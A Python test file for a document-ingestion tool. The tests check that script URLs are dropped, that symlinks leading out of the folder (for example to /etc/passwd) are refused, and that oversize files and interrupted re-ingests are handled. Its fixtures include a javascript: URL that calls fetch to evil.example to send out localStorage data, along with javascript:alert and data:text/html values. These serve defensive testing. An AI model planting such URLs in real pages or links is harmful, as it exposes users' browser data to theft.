"""What a hostile or careless folder cannot do to the index: script links, links out of the
folder, huge files; and a re-ingest killed midway keeps the old version."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from typing import TYPE_CHECKING

import pytest

from groundwork.ingest.pipeline import Ingestor, discover
from groundwork.retrieval.base import SearchFilter
from groundwork.retrieval.embedded import EmbeddedIndex
from groundwork.storage.sqlite import SQLiteStorage
from tests.conftest import REPO
from tests.retrieval.conftest import HashingEmbedder

if TYPE_CHECKING:
    from pathlib import Path

    from groundwork.retrieval.keyword import KeywordIndex

SCRIPT = "javascript:fetch('//evil.example/?k='+localStorage.key)"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("front.md", f'---\ntitle: Tides\nurl: "{SCRIPT}"\n---\n\nSpring tides come twice.\n'),
        (
            "page.html",
            f'<html><head><link rel="canonical" href="{SCRIPT}"></head>'
            "<body><p>Spring tides come twice.</p></body></html>",
        ),
        ("rows.jsonl", f'{{"text": "Spring tides come twice.", "url": "{SCRIPT}"}}\n'),
        ("rows2.jsonl", '{"text": "Spring tides come twice.", "url": "data:text/html,<b>x"}\n'),
    ],
)
def test_given_a_script_url_in_a_document_when_ingested_then_the_card_links_to_its_file(
    tmp_path: Path, ingestor: Ingestor, index: KeywordIndex, name: str, content: str
) -> None:
    """Given a document whose URL runs script, when ingested, then its cards keep a relative
    link to the file instead, and the text is still searchable."""
    (tmp_path / name).write_text(content)

    report = ingestor.ingest([tmp_path / name], collection="c", root=tmp_path)

    assert report.failed == {}
    hits = index.search("spring tides", SearchFilter(collections=["c"]), 5)
    assert hits
    assert {hit.card.url.split("#")[0] for hit in hits} == {name}


def test_given_a_script_url_as_batch_metadata_or_file_name_when_ingested_then_not_kept(
    tmp_path: Path, ingestor: Ingestor, index: KeywordIndex
) -> None:
    (tmp_path / "javascript:alert(1).txt").write_text("Neap tides come between.\n")
    (tmp_path / "b.txt").write_text("Spring tides come twice.\n")

    ingestor.ingest([tmp_path / "javascript:alert(1).txt"], collection="c", root=tmp_path)
    ingestor.ingest(
        [tmp_path / "b.txt"], collection="c", root=tmp_path, metadata={"url": "JavaScript:x"}
    )

    urls = {hit.card.url for hit in index.search("tides", SearchFilter(collections=["c"]), 5)}
    assert urls == {"./javascript:alert(1).txt", "b.txt"}


def test_given_an_http_url_when_ingested_then_it_is_kept(
    tmp_path: Path, ingestor: Ingestor, index: KeywordIndex
) -> None:
    (tmp_path / "a.md").write_text("---\nurl: https://example.org/tides\n---\n\nTides turn.\n")

    ingestor.ingest([tmp_path / "a.md"], collection="c", root=tmp_path)

    hits = index.search("tides", SearchFilter(collections=["c"]), 5)
    assert [hit.card.url for hit in hits] == ["https://example.org/tides"]


ORIGINAL = "# Tides\n\nSpring tides come twice a month.\n"
CHANGED = "# Tides\n\nNeap tides come between the spring tides.\n"


def _texts(index: EmbeddedIndex) -> list[str]:
    return [hit.card.text for hit in index.search("tides", SearchFilter(collections=["c"]), 5)]


@pytest.mark.parametrize(
    ("point", "searchable"),
    [("embedding", ORIGINAL), ("recording", CHANGED)],
)
def test_given_a_reingest_killed_midway_then_a_version_stays_searchable_and_reingest_works(
    tmp_path: Path, point: str, searchable: str
) -> None:
    """Given an ingested file that changed, when its re-ingest is killed with SIGKILL (while
    embedding, or after the swap before the source's hash is written), then one whole version
    is still searchable, and ingesting the original again brings the original back."""
    root = tmp_path / "docs"
    root.mkdir()
    doc = root / "tides.md"
    doc.write_text(ORIGINAL)
    index = EmbeddedIndex(tmp_path / "index.sqlite3", HashingEmbedder())
    storage = SQLiteStorage(tmp_path / "state.sqlite3")
    Ingestor(index, storage).ingest([doc], collection="c", root=root)
    doc.write_text(CHANGED)
    marker = tmp_path / "reached"

    worker = subprocess.Popen(
        [sys.executable, "-m", "tests.ingest.reingest_worker",
         str(tmp_path), str(doc), str(root), point, str(marker)],
        cwd=REPO,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while not marker.exists():
            assert worker.poll() is None, "the re-ingest ended before the kill point"
            assert time.monotonic() < deadline, "the re-ingest never reached the kill point"
            time.sleep(0.05)
    finally:
        worker.send_signal(signal.SIGKILL)
        worker.wait(10)

    assert _texts(index) == [searchable.split("\n\n")[1].strip()]
    doc.write_text(ORIGINAL)
    report = Ingestor(index, storage).ingest([doc], collection="c", root=root)
    assert report.failed == {}
    assert _texts(index) == ["Spring tides come twice a month."]
    assert index.count("c") == 1


def test_given_a_symlink_out_of_the_folder_when_ingested_then_refused_with_a_reason(
    tmp_path: Path, ingestor: Ingestor, index: KeywordIndex
) -> None:
    """Given a folder with a link to a file outside it (as to /etc/passwd), when ingested,
    then that link fails with its reason and nothing of the file is searchable; a link to a
    file inside the folder is read."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    root = tmp_path / "docs"
    root.mkdir()
    (root / "guide.md").write_text("# Guide\n\nThe harbour opens at dawn.\n")
    (root / "passwd.txt").symlink_to(outside / "passwd")
    (root / "alias.md").symlink_to(root / "guide.md")
    found = discover(root)

    report = ingestor.ingest(found.files, collection="c", root=root)

    assert found.folders == {}
    assert list(report.failed) == [str(root / "passwd.txt")]
    assert "symlink leading outside the folder" in report.failed[str(root / "passwd.txt")]
    assert report.added == 2
    assert index.search("root bash", SearchFilter(collections=["c"]), 5) == []


def test_given_looping_and_broken_links_when_ingested_then_each_is_reported(
    tmp_path: Path, ingestor: Ingestor
) -> None:
    root = tmp_path / "docs"
    (root / "sub").mkdir(parents=True)
    (root / "a.md").symlink_to(root / "b.md")
    (root / "b.md").symlink_to(root / "a.md")
    (root / "gone.txt").symlink_to(root / "missing.txt")
    (root / "sub" / "up").symlink_to(root)
    (root / "sub" / "note.txt").write_text("A note.\n")
    found = discover(root)

    report = ingestor.ingest(found.files, collection="c", root=root)

    assert list(found.folders) == [str(root / "sub" / "up")]
    assert "symlink loop" in found.folders[str(root / "sub" / "up")]
    assert report.failed == {
        str(root / "a.md"): "ValueError: a symlink loop",
        str(root / "b.md"): "ValueError: a symlink loop",
        str(root / "gone.txt"): f"ValueError: a broken symlink, to {root / 'missing.txt'}",
    }
    assert report.added == 1


def test_given_a_file_over_the_size_cap_or_a_fifo_when_ingested_then_refused_with_a_reason(
    tmp_path: Path, index: KeywordIndex, storage: SQLiteStorage
) -> None:
    (tmp_path / "big.txt").write_text("Tides. " * 100)
    (tmp_path / "small.txt").write_text("Tides turn.\n")
    os.mkfifo(tmp_path / "pipe.txt")
    capped = Ingestor(index, storage, max_file_bytes=200)

    report = capped.ingest(
        [tmp_path / "big.txt", tmp_path / "small.txt", tmp_path / "pipe.txt"],
        collection="c",
        root=tmp_path,
    )

    assert report.failed == {
        str(tmp_path / "big.txt"): "ValueError: bigger than 200 bytes, the limit "
        "(GROUNDWORK_INGEST_MAX_FILE_BYTES)",
        str(tmp_path / "pipe.txt"): "ValueError: not a regular file",
    }
    assert report.added == 1


def test_given_a_large_file_when_ingested_then_progress_is_reported_within_it(
    tmp_path: Path, storage: SQLiteStorage
) -> None:
    doc = tmp_path / "long.txt"
    doc.write_text("\n\n".join(f"{n}. Paragraph {n} tells of tide {n}." for n in range(600)))
    index = EmbeddedIndex(tmp_path / "index.sqlite3", HashingEmbedder())
    seen: list[tuple[str, int, int]] = []

    Ingestor(index, storage).ingest(
        [doc], collection="c", root=tmp_path, on_cards=lambda f, r, t: seen.append((f.name, r, t))
    )

    total = index.count("c")
    assert total > 512
    assert [ready for _, ready, _ in seen] == [256, 512, total]
    assert {(name, t) for name, _, t in seen} == {("long.txt", total)}
